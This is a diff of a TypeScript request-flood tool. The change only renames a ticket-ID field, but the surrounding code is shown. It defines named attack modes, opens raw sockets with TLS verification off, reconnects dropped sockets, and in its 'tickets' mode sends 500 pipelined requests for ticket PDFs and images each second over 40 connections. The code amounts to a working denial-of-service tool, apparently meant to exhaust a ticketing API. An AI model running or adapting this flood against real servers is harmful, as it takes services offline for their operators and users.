@@ -3,7 +3,7 @@ import { connect } from 'node:net'
 import { connect as connectTls } from 'node:tls'
 
 export type Attack = 'tickets' | 'unread' | 'logins' | 'bodies' | 'silent'
-export type Target = { url: string; from: string; talones: readonly string[]; token: string }
+export type Target = { url: string; from: string; boletos: readonly string[]; token: string }
 
 const head = (method: string, path: string, more = '') => `${method} ${path} HTTP/1.1\r\nHost: localhost\r\n${more}\r\n`
 const json = (length: number) => `Content-Type: application/json\r\nContent-Length: ${length}\r\n`
@@ -14,7 +14,7 @@ function keep({ url, from }: Target, write: (socket: ReturnType<typeof connect>)
   const where = { host: hostname, port: Number(port), localAddress: from }
   const socket = protocol === 'https:' ? connectTls({ ...where, rejectUnauthorized: false }) : connect(where)
   socket.on('error', () => {})
-  socket.once('close', () => setTimeout(() => keep({ url, from, talones: [], token: '' }, write, reads), 100))
+  socket.once('close', () => setTimeout(() => keep({ url, from, boletos: [], token: '' }, write, reads), 100))
   if (reads) socket.resume()
   else socket.pause()
   write(socket)
@@ -25,7 +25,7 @@ const times = (count: number, what: () => void) => Array.from({ length: count },
 const attacks: Record<Attack, (target: Target) => void> = {
   // Every file of every ticket, five hundred at a time.
   tickets: target => {
-    const paths = target.talones.flatMap(talon => [`/api/boleto/${talon}/pdf`, `/api/boleto/${talon}/imagen`])
+    const paths = target.boletos.flatMap(boleto => [`/api/boleto/${boleto}/pdf`, `/api/boleto/${boleto}/imagen`])
     const asked = Array.from({ length: 500 }, (_, i) => head('GET', paths[i % paths.length] ?? '')).join('')
     times(40, () => keep(target, socket => void setInterval(() => socket.writable && socket.write(asked), 1_000)))
   },
